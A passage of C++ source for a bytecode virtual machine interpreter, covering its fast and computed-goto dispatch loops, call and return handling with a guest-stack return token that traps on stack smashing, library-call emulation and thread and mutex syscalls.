        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::Add: case ir::Opcode::Sub: case ir::Opcode::Mul:
      case ir::Opcode::Div: case ir::Opcode::Rem: case ir::Opcode::And:
      case ir::Opcode::Or: case ir::Opcode::Xor: case ir::Opcode::Shl:
      case ir::Opcode::Shr: case ir::Opcode::CmpEq:
      case ir::Opcode::CmpNe: case ir::Opcode::CmpLt:
      case ir::Opcode::CmpLe: case ir::Opcode::CmpGt:
      case ir::Opcode::CmpGe:
        result = arith(eval(ctx, instr.a), eval(ctx, instr.b));
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::Load: {
        eff_addr = static_cast<std::uint64_t>(eval(ctx, instr.a));
        result = instr.size == 1
            ? static_cast<std::int64_t>(memory_->readU8(eff_addr))
            : memory_->readI64(eff_addr);
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      }
      case ir::Opcode::Store: {
        eff_addr = static_cast<std::uint64_t>(eval(ctx, instr.a));
        std::int64_t v = eval(ctx, instr.b);
        if (instr.size == 1)
            memory_->writeU8(eff_addr, static_cast<std::uint8_t>(v));
        else
            memory_->writeI64(eff_addr, v);
        result = v;
        has_result = true;
        ++fr.ip;
        break;
      }
      case ir::Opcode::Alloca: {
        std::uint64_t size =
            (static_cast<std::uint64_t>(std::max<std::int64_t>(
                 8, instr.imm)) + 7) & ~std::uint64_t{7};
        if (ctx.sp < memory_->stackFloor(ctx.tid) + size)
            throw VmTrap(TrapKind::StackOverflow, "stack overflow");
        ctx.sp -= size;
        eff_addr = ctx.sp;
        result = static_cast<std::int64_t>(ctx.sp);
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      }
      case ir::Opcode::GlobalAddr:
        result = static_cast<std::int64_t>(
            globalAddrs_[static_cast<std::size_t>(instr.imm)]);
        eff_addr = static_cast<std::uint64_t>(result);
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::FnAddr:
        result = kFnTokenBase + instr.callee;
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::LibCall:
        result = doLibCall(ctx, instr, eff_addr);
        setReg(ctx, instr.dst, result);
        has_result = true;
        ++fr.ip;
        break;
      case ir::Opcode::Call:
        account();
        doCall(ctx, instr, instr.callee);
        return true;
      case ir::Opcode::ICall: {
        std::int64_t token = eval(ctx, instr.a);
        int callee = static_cast<int>(token - kFnTokenBase);
        if (token < kFnTokenBase || callee < 0 ||
            callee >= static_cast<int>(module_.numFunctions()))
            throw VmTrap(TrapKind::BadIndirectCall,
                         "indirect call through bad function pointer");
        if (static_cast<int>(instr.args.size()) !=
            module_.function(callee).numParams())
            throw VmTrap(TrapKind::BadIndirectCall,
                         "indirect call arity mismatch");
        account();
        doCall(ctx, instr, callee);
        return true;
      }
      case ir::Opcode::Syscall:
        return doSyscall(ctx, instr);
      case ir::Opcode::Br:
        fr.block = instr.target0;
        fr.ip = 0;
        account();
        if (execHook_)
            execHook_->onBlockEnter(ctx.tid, fr.fn, fr.block, *this);
        return true;
      case ir::Opcode::CondBr:
        fr.block = eval(ctx, instr.a) != 0 ? instr.target0
                                           : instr.target1;
        fr.ip = 0;
        account();
        if (execHook_) {
            execHook_->onBranch(ctx.tid, instr, fr.block, *this);
            execHook_->onBlockEnter(ctx.tid, fr.fn, fr.block, *this);
        }
        return true;
      case ir::Opcode::Ret:
        account();
        doRet(ctx, instr);
        return true;
      case ir::Opcode::CntAdd:
        if (!cfg_.chaosSkipCntAddPeriod ||
            ++chaosCntAdds_ % cfg_.chaosSkipCntAddPeriod != 0)
            ctx.cnt += instr.imm;
        ctx.maxCnt = std::max(ctx.maxCnt, ctx.cnt);
        ++fr.ip;
        break;
      case ir::Opcode::SyncBarrier: {
        if (!port_) {
            // Native run: barrier degenerates to the counter reset.
            ctx.cnt += instr.a.imm;
            ++totalBarriers_;
            ++fr.ip;
            break;
        }
        std::int64_t iter = ctx.barrierIter[instr.imm];
        PortReply reply = port_->onBarrier(ctx.tid, instr.imm, iter,
                                           ctx.cnt, instr.a.imm, *this);
        if (reply == PortReply::Blocked) {
            if (prof_stall)
                ++*prof_stall;
            ctx.state = Context::State::BlockedPort;
            return false;
        }
        ctx.state = Context::State::Runnable;
        ctx.barrierIter[instr.imm] = iter + 1;
        ctx.cnt += instr.a.imm;
        ++totalBarriers_;
        ++fr.ip;
        break;
      }
      case ir::Opcode::CntPush:
        ctx.cntStack.push_back(ctx.cnt);
        ctx.maxCntDepth = std::max(ctx.maxCntDepth, ctx.cntStack.size());
        ctx.cnt = 0;
        if (port_)
            port_->onCounterPush(ctx.tid, ctx.cntStack.back(), *this);
        ++fr.ip;
        break;
      case ir::Opcode::CntPop:
        checkInvariant(!ctx.cntStack.empty(), "counter stack underflow");
        ctx.cnt = ctx.cntStack.back();
        ctx.cntStack.pop_back();
        if (port_)
            port_->onCounterPop(ctx.tid, ctx.cnt, *this);
        ++fr.ip;
        break;
    }

    account();
    if (execHook_ && has_result)
        execHook_->onInstr(ctx.tid, instr, eff_addr, result, *this);
    return true;
}

template <bool Profiled>
std::uint64_t
Machine::fastRun(Context &ctx, std::uint64_t limit)
{
    Frame &fr = ctx.frames.back();
    const DecodedFunction &df = decoded_->function(fr.fn);
    const DecodedInstr *code = df.code();
    std::uint32_t pc =
        df.blockStart(fr.block) + static_cast<std::uint32_t>(fr.ip);
    const DecodedInstr &head = code[pc];

    [[maybe_unused]] std::uint64_t *prof = nullptr;
    if constexpr (Profiled)
        prof = prof_->retired[static_cast<std::size_t>(fr.fn)].data();

    if (totalInstrs_ >= cfg_.maxInstructions)
        throw VmTrap(TrapKind::BudgetExceeded,
                     "instruction budget exceeded");

    // Cap the run so it cannot cross the instruction budget; the
    // budget trap then fires at the head of the next run, exactly
    // where the per-instruction check would have fired.
    std::uint64_t run = head.runLen;
    if (run > limit)
        run = limit;
    if (run > cfg_.maxInstructions - totalInstrs_)
        run = cfg_.maxInstructions - totalInstrs_;

    std::int64_t *regs = fr.regs.data();
    Memory &mem = *memory_;
    const std::uint32_t start = pc;
    std::uint64_t k = 0;

    // Retirement accounting for [start, start+k): a full canonical
    // run applies its precomputed histogram; a truncated or trapped
    // run walks the contiguous retired range (branches only sit at
    // run ends, so the range is always contiguous).
    auto flush = [&]() {
        if (k == head.runLen && head.histIdx >= 0) {
            for (const auto &[op, cnt] : df.hist(head.histIdx))
                opCounts_[static_cast<std::size_t>(op)] += cnt;
        } else {
            for (std::uint32_t i = start; i < start + k; ++i)
                ++opCounts_[static_cast<std::size_t>(code[i].op)];
        }
        if constexpr (Profiled) {
            // Per-site attribution always walks the retired range —
            // one bump per site, batched per run.
            for (std::uint32_t i = start; i < start + k; ++i)
                ++prof[i];
        }
        totalInstrs_ += k;
        ctx.instrCount += k;
        kernel_.tickInstructions(static_cast<std::int64_t>(k));
        fr.block = code[pc].block;
        fr.ip = code[pc].ip;
    };

    try {
        for (; k < run; ++k) {
            const DecodedInstr &d = code[pc];
            auto A = [&]() -> std::int64_t {
                return (d.flags & DecodedInstr::kAReg)
                           ? regs[d.a] : d.a;
            };
            auto B = [&]() -> std::int64_t {
                return (d.flags & DecodedInstr::kBReg)
                           ? regs[d.b] : d.b;
            };
            auto set = [&](std::int64_t v) {
                if (d.dst >= 0)
                    regs[d.dst] = v;
            };
            switch (d.op) {
              case ir::Opcode::Const: set(d.imm); ++pc; break;
              case ir::Opcode::Move: set(A()); ++pc; break;
              case ir::Opcode::Neg: set(-A()); ++pc; break;
              case ir::Opcode::Not: set(~A()); ++pc; break;
              case ir::Opcode::Add: set(A() + B()); ++pc; break;
              case ir::Opcode::Sub: set(A() - B()); ++pc; break;
              case ir::Opcode::Mul: set(A() * B()); ++pc; break;
              case ir::Opcode::Div: {
                std::int64_t a = A(), b = B();
                if (b == 0)
                    throw VmTrap(TrapKind::DivideByZero,
                                 "division by zero");
                set(a == INT64_MIN && b == -1 ? INT64_MIN : a / b);
                ++pc;
                break;
              }
              case ir::Opcode::Rem: {
                std::int64_t a = A(), b = B();
                if (b == 0)
                    throw VmTrap(TrapKind::DivideByZero,
                                 "remainder by zero");
                set(a == INT64_MIN && b == -1 ? 0 : a % b);
                ++pc;
                break;
              }
              case ir::Opcode::And: set(A() & B()); ++pc; break;
              case ir::Opcode::Or: set(A() | B()); ++pc; break;
              case ir::Opcode::Xor: set(A() ^ B()); ++pc; break;
              case ir::Opcode::Shl:
                set(static_cast<std::int64_t>(
                    static_cast<std::uint64_t>(A()) << (B() & 63)));
                ++pc;
                break;
              case ir::Opcode::Shr:
                set(static_cast<std::int64_t>(
                    static_cast<std::uint64_t>(A()) >> (B() & 63)));
                ++pc;
                break;
              case ir::Opcode::CmpEq: set(A() == B()); ++pc; break;
              case ir::Opcode::CmpNe: set(A() != B()); ++pc; break;
              case ir::Opcode::CmpLt: set(A() < B()); ++pc; break;
              case ir::Opcode::CmpLe: set(A() <= B()); ++pc; break;
              case ir::Opcode::CmpGt: set(A() > B()); ++pc; break;
              case ir::Opcode::CmpGe: set(A() >= B()); ++pc; break;
              case ir::Opcode::Load: {
                std::uint64_t addr = static_cast<std::uint64_t>(A());
                set(d.size == 1
                        ? static_cast<std::int64_t>(mem.readU8(addr))
                        : mem.readI64(addr));
                ++pc;
                break;
              }
              case ir::Opcode::Store: {
                std::uint64_t addr = static_cast<std::uint64_t>(A());
                std::int64_t v = B();
                if (d.size == 1)
                    mem.writeU8(addr, static_cast<std::uint8_t>(v));
                else
                    mem.writeI64(addr, v);
                ++pc;
                break;
              }
              case ir::Opcode::Alloca: {
                std::uint64_t size = static_cast<std::uint64_t>(d.imm);
                if (ctx.sp < mem.stackFloor(ctx.tid) + size)
                    throw VmTrap(TrapKind::StackOverflow,
                                 "stack overflow");
                ctx.sp -= size;
                set(static_cast<std::int64_t>(ctx.sp));
                ++pc;
                break;
              }
              case ir::Opcode::GlobalAddr:
                set(static_cast<std::int64_t>(
                    globalAddrs_[static_cast<std::size_t>(d.imm)]));
                ++pc;
                break;
              case ir::Opcode::FnAddr:
                set(kFnTokenBase + d.imm);
                ++pc;
                break;
              case ir::Opcode::LibCall: {
                std::uint64_t eff = 0;
                set(doLibCall(ctx, *d.src, eff));
                ++pc;
                break;
              }
              case ir::Opcode::CntAdd:
                if (!cfg_.chaosSkipCntAddPeriod ||
                    ++chaosCntAdds_ % cfg_.chaosSkipCntAddPeriod != 0)
                    ctx.cnt += d.imm;
                ctx.maxCnt = std::max(ctx.maxCnt, ctx.cnt);
                ++pc;
                break;
              case ir::Opcode::Br:
                pc = static_cast<std::uint32_t>(d.target0);
                break;
              case ir::Opcode::CondBr:
                pc = static_cast<std::uint32_t>(
                    A() != 0 ? d.target0 : d.target1);
                break;
              default:
                panic("slow opcode reached the fast run loop");
            }
        }
    } catch (const VmTrap &) {
        // pc still names the trapping instruction: the retired range
        // is [start, start+k) and fr must point at the fault site for
        // the trap report (the faulting instruction is not retired,
        // exactly like the legacy path).
        flush();
        throw;
    }
    flush();
    return k;
}

#if LDX_HAS_COMPUTED_GOTO

#include "vm/dispatch.inc"

/**
 * One dispatch: stop at the limit, otherwise jump through the token
 * table. Slow opcodes map to the exit label, so the loop needs no
 * explicit isSlow() test. Fused tokens retire two instructions, so
 * they are only taken with at least two instructions of headroom;
 * with one left, the base opcode runs alone.
 */
#define LDX_NEXT() \
    do { \
        if (k >= lim) \
            goto L_done; \
        d = &code[pc]; \
        goto *tbl[Fused && lim - k >= 2 \
                      ? d->xop \
                      : static_cast<std::uint8_t>(d->op)]; \
    } while (0)

/** Ordinary label: body, retire one instruction, dispatch the next. */
#define LDX_OP_LABEL(name) \
    L_##name: \
    LDX_BODY_##name; \
    LDX_PROF_SITE(); \
    ++opCounts_[static_cast<std::size_t>(ir::Opcode::name)]; \
    ++k; \
    LDX_NEXT()

/**
 * Fused label: both bodies back to back with a single dispatch. The
 * second instruction is refetched from pc, and each half retires
 * separately, so a trap in the second body leaves the first half
 * retired and pc at the fault site — indistinguishable from two
 * unfused dispatches.
 */
#define LDX_FUSED_LABEL(pair, op1, op2) \
    L_##pair: \
    LDX_BODY_##op1; \
    LDX_PROF_SITE(); \
    ++opCounts_[static_cast<std::size_t>(ir::Opcode::op1)]; \
    ++k; \
    d = &code[pc]; \
    LDX_BODY_##op2; \
    LDX_PROF_SITE(); \
    ++opCounts_[static_cast<std::size_t>(ir::Opcode::op2)]; \
    ++k; \
    LDX_NEXT()

template <bool Fused, bool Profiled>
std::uint64_t
Machine::fastRunThreaded(Context &ctx, std::uint64_t limit)
{
    Frame &fr = ctx.frames.back();
    const DecodedFunction &df = decoded_->function(fr.fn);
    const DecodedInstr *code = df.code();
    std::uint32_t pc =
        df.blockStart(fr.block) + static_cast<std::uint32_t>(fr.ip);

    // LDX_PROF_SITE's base pointer; never read unless Profiled (an
    // if constexpr guard, not a ternary — prof_ may be null here).
    [[maybe_unused]] std::uint64_t *prof = nullptr;
    if constexpr (Profiled)
        prof = prof_->retired[static_cast<std::size_t>(fr.fn)].data();

    if (totalInstrs_ >= cfg_.maxInstructions)
        throw VmTrap(TrapKind::BudgetExceeded,
                     "instruction budget exceeded");

    // Unlike fastRun this loop chains across branches, so the retired
    // range is not contiguous and per-run histograms do not apply:
    // opCounts_ is bumped per label (a compile-time-constant index),
    // and the cap only has to keep the budget trap at the same
    // instruction the switch dispatcher would fault on.
    std::uint64_t lim = limit;
    if (lim > cfg_.maxInstructions - totalInstrs_)
        lim = cfg_.maxInstructions - totalInstrs_;

    std::int64_t *regs = fr.regs.data();
    Memory &mem = *memory_;
    std::uint64_t k = 0;

    // Deferred accounting identical to fastRun's flush(): totals move
    // once per call, and fr re-derives (block, ip) from the flat pc —
    // on a trap that names the fault site, otherwise the resume point.
    auto flush = [&]() {
        totalInstrs_ += k;
        ctx.instrCount += k;
        kernel_.tickInstructions(static_cast<std::int64_t>(k));
        fr.block = code[pc].block;
        fr.ip = code[pc].ip;
    };

    // Token table indexed by DecodedInstr::xop. Base opcodes first —
    // in ir::Opcode declaration order, asserted below — then the
    // fused pairs in kXop* declaration order.
    static_assert(static_cast<int>(ir::Opcode::Const) == 0);
    static_assert(static_cast<int>(ir::Opcode::Add) == 2);
    static_assert(static_cast<int>(ir::Opcode::Neg) == 12);
    static_assert(static_cast<int>(ir::Opcode::CmpEq) == 14);
    static_assert(static_cast<int>(ir::Opcode::Load) == 20);
    static_assert(static_cast<int>(ir::Opcode::Call) == 24);
    static_assert(static_cast<int>(ir::Opcode::Br) == 29);
    static_assert(static_cast<int>(ir::Opcode::CntAdd) == 32);
    static_assert(static_cast<int>(ir::Opcode::CntPop) == 35);
    static_assert(kXopFusedBase == 36 && kXopCount == 49);
    static const void *tbl[kXopCount] = {
        &&L_Const, &&L_Move,
        &&L_Add, &&L_Sub, &&L_Mul, &&L_Div, &&L_Rem,
        &&L_And, &&L_Or, &&L_Xor, &&L_Shl, &&L_Shr,
        &&L_Neg, &&L_Not,
        &&L_CmpEq, &&L_CmpNe, &&L_CmpLt, &&L_CmpLe, &&L_CmpGt,
        &&L_CmpGe,
        &&L_Load, &&L_Store, &&L_Alloca, &&L_GlobalAddr,
        &&L_done /* Call */, &&L_done /* ICall */,
        &&L_FnAddr, &&L_LibCall,
        &&L_done /* Syscall */,
        &&L_Br, &&L_CondBr,
        &&L_done /* Ret */,
        &&L_CntAdd,
        &&L_done /* SyncBarrier */, &&L_done /* CntPush */,
        &&L_done /* CntPop */,
        &&L_CmpEqCondBr, &&L_CmpNeCondBr, &&L_CmpLtCondBr,
        &&L_CmpLeCondBr, &&L_CmpGtCondBr, &&L_CmpGeCondBr,
        &&L_CntAddBr, &&L_CntAddConst, &&L_CntAddLoad, &&L_CntAddMove,
        &&L_LoadAdd, &&L_AddStore, &&L_ConstStore,
    };

    const DecodedInstr *d;
    try {
        LDX_NEXT();

        LDX_OP_LABEL(Const);
        LDX_OP_LABEL(Move);
        LDX_OP_LABEL(Neg);
        LDX_OP_LABEL(Not);
        LDX_OP_LABEL(Add);
        LDX_OP_LABEL(Sub);
        LDX_OP_LABEL(Mul);
        LDX_OP_LABEL(Div);
        LDX_OP_LABEL(Rem);
        LDX_OP_LABEL(And);
        LDX_OP_LABEL(Or);
        LDX_OP_LABEL(Xor);
        LDX_OP_LABEL(Shl);
        LDX_OP_LABEL(Shr);
        LDX_OP_LABEL(CmpEq);
        LDX_OP_LABEL(CmpNe);
        LDX_OP_LABEL(CmpLt);
        LDX_OP_LABEL(CmpLe);
        LDX_OP_LABEL(CmpGt);
        LDX_OP_LABEL(CmpGe);
        LDX_OP_LABEL(Load);
        LDX_OP_LABEL(Store);
        LDX_OP_LABEL(Alloca);
        LDX_OP_LABEL(GlobalAddr);
        LDX_OP_LABEL(FnAddr);
        LDX_OP_LABEL(LibCall);
        LDX_OP_LABEL(CntAdd);
        LDX_OP_LABEL(Br);
        LDX_OP_LABEL(CondBr);

        LDX_FUSED_LABEL(CmpEqCondBr, CmpEq, CondBr);
        LDX_FUSED_LABEL(CmpNeCondBr, CmpNe, CondBr);
        LDX_FUSED_LABEL(CmpLtCondBr, CmpLt, CondBr);
        LDX_FUSED_LABEL(CmpLeCondBr, CmpLe, CondBr);
        LDX_FUSED_LABEL(CmpGtCondBr, CmpGt, CondBr);
        LDX_FUSED_LABEL(CmpGeCondBr, CmpGe, CondBr);
        LDX_FUSED_LABEL(CntAddBr, CntAdd, Br);
        LDX_FUSED_LABEL(CntAddConst, CntAdd, Const);
        LDX_FUSED_LABEL(CntAddLoad, CntAdd, Load);
        LDX_FUSED_LABEL(CntAddMove, CntAdd, Move);
        LDX_FUSED_LABEL(LoadAdd, Load, Add);
        LDX_FUSED_LABEL(AddStore, Add, Store);
        LDX_FUSED_LABEL(ConstStore, Const, Store);

    L_done:;
    } catch (const VmTrap &) {
        flush();
        throw;
    }
    flush();
    return k;
}

#undef LDX_NEXT
#undef LDX_OP_LABEL
#undef LDX_FUSED_LABEL
#undef LDX_PROF_SITE
#undef LDX_A
#undef LDX_B
#undef LDX_SET
#undef LDX_BODY_Const
#undef LDX_BODY_Move
#undef LDX_BODY_Neg
#undef LDX_BODY_Not
#undef LDX_BODY_Add
#undef LDX_BODY_Sub
#undef LDX_BODY_Mul
#undef LDX_BODY_Div
#undef LDX_BODY_Rem
#undef LDX_BODY_And
#undef LDX_BODY_Or
#undef LDX_BODY_Xor
#undef LDX_BODY_Shl
#undef LDX_BODY_Shr
#undef LDX_BODY_CmpEq
#undef LDX_BODY_CmpNe
#undef LDX_BODY_CmpLt
#undef LDX_BODY_CmpLe
#undef LDX_BODY_CmpGt
#undef LDX_BODY_CmpGe
#undef LDX_BODY_Load
#undef LDX_BODY_Store
#undef LDX_BODY_Alloca
#undef LDX_BODY_GlobalAddr
#undef LDX_BODY_FnAddr
#undef LDX_BODY_LibCall
#undef LDX_BODY_CntAdd
#undef LDX_BODY_Br
#undef LDX_BODY_CondBr

#endif // LDX_HAS_COMPUTED_GOTO

void
Machine::doCall(Context &ctx, const ir::Instr &instr, int callee)
{
    std::vector<std::int64_t> args;
    args.reserve(instr.args.size());
    {
        // Evaluate with the caller frame still current.
        for (const ir::Operand &a : instr.args)
            args.push_back(eval(ctx, a));
    }

    Frame &caller = ctx.frames.back();
    ++caller.ip; // resume point
    if (prof_)
        ++prof_->callEdges[static_cast<std::size_t>(caller.fn) *
                               prof_->numFns +
                           static_cast<std::size_t>(callee)];

    Frame frame;
    frame.fn = callee;
    frame.block = ir::Function::entryBlockId;
    frame.ip = 0;
    frame.regs.assign(module_.function(callee).numRegs(), 0);
    for (std::size_t i = 0; i < args.size(); ++i)
        frame.regs[i] = args[i];
    frame.spAtEntry = ctx.sp;
    frame.retReg = instr.dst;

    // Push the return token onto the guest stack where a buffer
    // overflow can reach it.
    if (ctx.sp < memory_->stackFloor(ctx.tid) + 8)
        throw VmTrap(TrapKind::StackOverflow, "stack overflow at call");
    ctx.sp -= 8;
    frame.tokenAddr = ctx.sp;
    frame.token = makeToken(caller.fn, caller.block, caller.ip);
    memory_->writeI64(frame.tokenAddr, frame.token);

    ctx.frames.push_back(std::move(frame));
    if (execHook_)
        execHook_->onCall(ctx.tid, instr, callee, args, *this);
}

void
Machine::doRet(Context &ctx, const ir::Instr &instr)
{
    Frame &fr = ctx.frames.back();
    std::int64_t rv = instr.a.isNone() ? 0 : eval(ctx, instr.a);

    if (fr.tokenAddr != 0) {
        std::int64_t token = memory_->readI64(fr.tokenAddr);
        if (sinkHook_)
            sinkHook_->onRetToken(ctx.tid, fr.tokenAddr, token, fr.token,
                                  *this);
        if (token != fr.token)
            throw VmTrap(TrapKind::ControlHijack,
                         "return token corrupted (stack smash)");
    }

    ctx.sp = fr.spAtEntry;
    int ret_reg = fr.retReg;
    ctx.frames.pop_back();
    if (execHook_)
        execHook_->onRet(ctx.tid, instr, ret_reg, rv, *this);

    if (ctx.frames.empty()) {
        finishContext(ctx, rv);
        if (ctx.tid == 0)
            finishProgram(rv);
        return;
    }
    setReg(ctx, ret_reg, rv);
}

void
Machine::finishContext(Context &ctx, std::int64_t ret_val)
{
    ctx.state = Context::State::Done;
    ctx.retVal = ret_val;
    emitObsInstant(obs::RecKind::ThreadDone, "thread_done", ctx.tid);
    if (port_)
        port_->onThreadDone(ctx.tid, *this);
    for (auto &other : contexts_) {
        if (other->state == Context::State::BlockedJoin &&
            other->joinTarget == ctx.tid)
            other->state = Context::State::Runnable;
    }
}

void
Machine::finishProgram(std::int64_t code)
{
    finished_ = true;
    exitCode_ = code;
    if (port_)
        port_->onFinished(*this);
}

std::int64_t
Machine::doLibCall(Context &ctx, const ir::Instr &instr,
                   std::uint64_t &eff_addr)
{
    auto argv = [&](std::size_t i) -> std::int64_t {
        return i < instr.args.size() ? eval(ctx, instr.args[i]) : 0;
    };
    ir::LibRoutine r = static_cast<ir::LibRoutine>(instr.imm);
    switch (r) {
      case ir::LibRoutine::Memcpy: {
        std::uint64_t dst = static_cast<std::uint64_t>(argv(0));
        std::uint64_t src = static_cast<std::uint64_t>(argv(1));
        std::uint64_t n = static_cast<std::uint64_t>(
            std::max<std::int64_t>(0, argv(2)));
        memory_->writeBytes(dst, memory_->readBytes(src, n));
        eff_addr = dst;
        return static_cast<std::int64_t>(dst);
      }
      case ir::LibRoutine::Memset: {
        std::uint64_t dst = static_cast<std::uint64_t>(argv(0));
        std::uint64_t n = static_cast<std::uint64_t>(
            std::max<std::int64_t>(0, argv(2)));
        memory_->writeBytes(dst, std::string(
            static_cast<std::size_t>(n),
            static_cast<char>(argv(1) & 0xff)));
        eff_addr = dst;
        return static_cast<std::int64_t>(dst);
      }
      case ir::LibRoutine::Strlen:
        return static_cast<std::int64_t>(
            memory_->readCString(
                static_cast<std::uint64_t>(argv(0))).size());
      case ir::LibRoutine::Strcmp: {
        std::string a = memory_->readCString(
            static_cast<std::uint64_t>(argv(0)));
        std::string b = memory_->readCString(
            static_cast<std::uint64_t>(argv(1)));
        return a < b ? -1 : (a == b ? 0 : 1);
      }
      case ir::LibRoutine::Strcpy: {
        std::uint64_t dst = static_cast<std::uint64_t>(argv(0));
        std::string s = memory_->readCString(
            static_cast<std::uint64_t>(argv(1)));
        memory_->writeBytes(dst, s + '\0');
        eff_addr = dst;
        return static_cast<std::int64_t>(dst);
      }
      case ir::LibRoutine::Strcat: {
        std::uint64_t dst = static_cast<std::uint64_t>(argv(0));
        std::string head = memory_->readCString(dst);
        std::string tail = memory_->readCString(
            static_cast<std::uint64_t>(argv(1)));
        memory_->writeBytes(dst + head.size(), tail + '\0');
        eff_addr = dst;
        return static_cast<std::int64_t>(dst);
      }
      case ir::LibRoutine::Atoi: {
        std::string s = memory_->readCString(
            static_cast<std::uint64_t>(argv(0)));
        std::int64_t v = 0;
        std::size_t i = 0;
        bool neg = false;
        while (i < s.size() && (s[i] == ' ' || s[i] == '\t'))
            ++i;
        if (i < s.size() && (s[i] == '-' || s[i] == '+')) {
            neg = s[i] == '-';
            ++i;
        }
        for (; i < s.size() && s[i] >= '0' && s[i] <= '9'; ++i)
            v = v * 10 + (s[i] - '0');
        return neg ? -v : v;
      }
      case ir::LibRoutine::Itoa: {
        std::uint64_t buf = static_cast<std::uint64_t>(argv(1));
        memory_->writeBytes(buf, std::to_string(argv(0)) + '\0');
        eff_addr = buf;
        return static_cast<std::int64_t>(buf);
      }
      case ir::LibRoutine::Malloc: {
        std::int64_t n = argv(0);
        if (sinkHook_)
            sinkHook_->onAllocSize(ctx.tid, n, *this);
        if (n < 0 || n > (1LL << 31))
            throw VmTrap(TrapKind::MemoryFault,
                         "malloc size out of range");
        std::uint64_t p =
            memory_->heapAlloc(static_cast<std::uint64_t>(n));
        eff_addr = p;
        return static_cast<std::int64_t>(p);
      }
      case ir::LibRoutine::Free:
        return 0;
    }
    panic("unknown library routine");
}

bool
Machine::doSyscall(Context &ctx, const ir::Instr &instr)
{
    Frame &fr = ctx.frames.back();
    if (!os::isValidSys(instr.imm))
        throw VmTrap(TrapKind::BadSyscall,
                     "invalid syscall number " + std::to_string(instr.imm));

    // The syscall's decoded site, for stall polls while blocked and
    // cost attribution once it completes.
    std::size_t prof_fn = 0;
    std::uint32_t prof_off = 0;
    if (prof_) {
        prof_fn = static_cast<std::size_t>(fr.fn);
        prof_off = decoded_->function(fr.fn).blockStart(fr.block) +
                   static_cast<std::uint32_t>(fr.ip);
    }

    SyscallRequest req;
    req.tid = ctx.tid;
    req.sysNo = instr.imm;
    req.args.reserve(instr.args.size());
    for (const ir::Operand &a : instr.args)
        req.args.push_back(eval(ctx, a));
    req.site = instr.site;
    req.cnt = ctx.cnt;
    req.loc = instr.loc;

    const os::SysDesc &desc = os::sysDesc(instr.imm);
    bool local_class = desc.klass == os::SysClass::Local ||
                       desc.klass == os::SysClass::Sync;

    os::Outcome out;
    if (!ctx.portApproved) {
        // Sample the dynamic counter at syscall issue (Table 1 stats).
        ctx.cntSum += static_cast<double>(ctx.cnt);
        ++ctx.cntSamples;
        ctx.maxCnt = std::max(ctx.maxCnt, ctx.cnt);

        if (port_) {
            PortReply reply = port_->onSyscall(req, *this, out);
            if (reply == PortReply::Blocked) {
                if (prof_)
                    ++prof_->stallPolls[prof_fn][prof_off];
                ctx.state = Context::State::BlockedPort;
                return false;
            }
        } else if (!local_class) {
            out = kernel_.execute(req.sysNo, req.args, *memory_);
        }
        ctx.portApproved = true;
        ctx.state = Context::State::Runnable;
    }

    if (local_class) {
        if (!doLocalSyscall(ctx, instr, req, out))
            return false;
        if (finished_)
            return true;
    }

    ctx.portApproved = false;
    ++totalSyscalls_;
    ++ctx.instrCount;
    ++totalInstrs_;
    ++opCounts_[static_cast<std::size_t>(ir::Opcode::Syscall)];
    kernel_.tickInstructions(1);
    profilePair(ctx, ir::Opcode::Syscall);
    if (prof_) {
        ++prof_->retired[prof_fn][prof_off];
        ++prof_->syscalls[prof_fn][prof_off];
        prof_->sysTicks[prof_fn][prof_off] += static_cast<std::uint64_t>(
            os::virtualSyscallCost(req.sysNo, out));
    }
    if (out.exited) {
        finishProgram(req.args.empty() ? 0 : req.args[0]);
        return true;
    }
    setReg(ctx, instr.dst, out.ret);
    ++fr.ip;
    if (execHook_)
        execHook_->onSyscall(req, out, *this);
    return true;
}

bool
Machine::doLocalSyscall(Context &ctx, const ir::Instr &instr,
                        const SyscallRequest &req, os::Outcome &out)
{
    (void)instr;
    os::Sys sys = static_cast<os::Sys>(req.sysNo);
    auto a = [&](std::size_t i) -> std::int64_t {
        return i < req.args.size() ? req.args[i] : 0;
    };
    switch (sys) {
      case os::Sys::Exit:
        kernel_.execute(req.sysNo, req.args, *memory_);
        out.ret = a(0);
        out.exited = true;
        return true;
      case os::Sys::ThreadCreate: {
        std::int64_t token = a(0);
        int callee = static_cast<int>(token - kFnTokenBase);
        if (token < kFnTokenBase || callee < 0 ||
            callee >= static_cast<int>(module_.numFunctions()))
            throw VmTrap(TrapKind::BadIndirectCall,
                         "thread_create with bad function pointer");
        Context &child = newContext(callee, {a(1)});
        out.ret = child.tid;
        return true;
      }
      case os::Sys::ThreadJoin: {
        std::int64_t t = a(0);
        if (t < 0 || t >= static_cast<std::int64_t>(contexts_.size()) ||
            t == ctx.tid) {
            out.ret = -1;
            return true;
        }
        Context &target = *contexts_[static_cast<std::size_t>(t)];
        if (target.state == Context::State::Done) {
            out.ret = target.retVal;
            ctx.joinTarget = -1;
            return true;
        }
        ctx.joinTarget = t;
        ctx.state = Context::State::BlockedJoin;
        return false;
      }
      case os::Sys::Yield:
        sliceLeft_ = 0;
        out.ret = 0;
        return true;
      case os::Sys::MutexLock: {
        std::int64_t id = a(0);
        auto it = mutexOwner_.find(id);
        std::int64_t owner = it == mutexOwner_.end() ? -1 : it->second;
        if (owner == -1) {
            mutexOwner_[id] = ctx.tid;
            out.ret = 0;
            return true;
        }
        if (owner == ctx.tid) {
            if (ctx.mutexWait == id) {
                // Ownership was transferred to us at unlock.
                ctx.mutexWait = -1;
                out.ret = 0;
                return true;
            }
            out.ret = -1; // recursive lock
            return true;
        }
        auto &waiters = mutexWaiters_[id];
        if (std::find(waiters.begin(), waiters.end(), ctx.tid) ==
            waiters.end())
            waiters.push_back(ctx.tid);
        ctx.mutexWait = id;
        ctx.state = Context::State::BlockedMutex;
        return false;
      }
      case os::Sys::MutexUnlock: {
        std::int64_t id = a(0);
        auto it = mutexOwner_.find(id);
        if (it == mutexOwner_.end() || it->second != ctx.tid) {
            out.ret = -1;
            return true;
        }
        auto &waiters = mutexWaiters_[id];
        if (waiters.empty()) {
            it->second = -1;
        } else {
            int next = waiters.front();
            waiters.erase(waiters.begin());
